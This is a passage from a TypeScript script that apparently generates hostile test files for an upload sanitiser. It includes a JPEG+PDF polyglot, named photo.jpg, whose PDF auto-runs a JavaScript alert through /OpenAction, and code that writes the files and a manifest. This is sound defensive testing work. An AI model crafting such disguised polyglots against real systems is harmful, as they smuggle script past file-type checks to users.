        name: 'pdf-jpeg-polyglot.jpg',
        sentAs: 'photo.jpg',
        contentType: 'image/jpeg',
        what: 'A JPEG followed by a PDF with JavaScript (JPEG+PDF polyglot): the image is kept, the PDF dropped.',
        image,
        document: image,
      },
      Buffer.concat([
        jpeg,
        onePagePdf('/OpenAction 4 0 R', '', ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']),
      ]),
    ],
  ];
  return entries;
};

const main = async () => {
  const entries = await build();
  await rm(outDir, { recursive: true, force: true });
  await mkdir(outDir, { recursive: true });
  const manifest: THostileEntry[] = [];
  for (const [index, [{ name, ...entry }, bytes]] of entries.entries()) {
    const file = `${String(index + 1).padStart(2, '0')}-${name}`;
    await writeFile(path.join(outDir, file), bytes);
    manifest.push({ file, ...entry });
  }
  await writeFile(path.join(outDir, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  const total = entries.reduce((sum, [, bytes]) => sum + bytes.length, 0);
  console.log(`${entries.length} hostile files, ${total} bytes, in ${path.relative(root, outDir)}`);
};

await main();
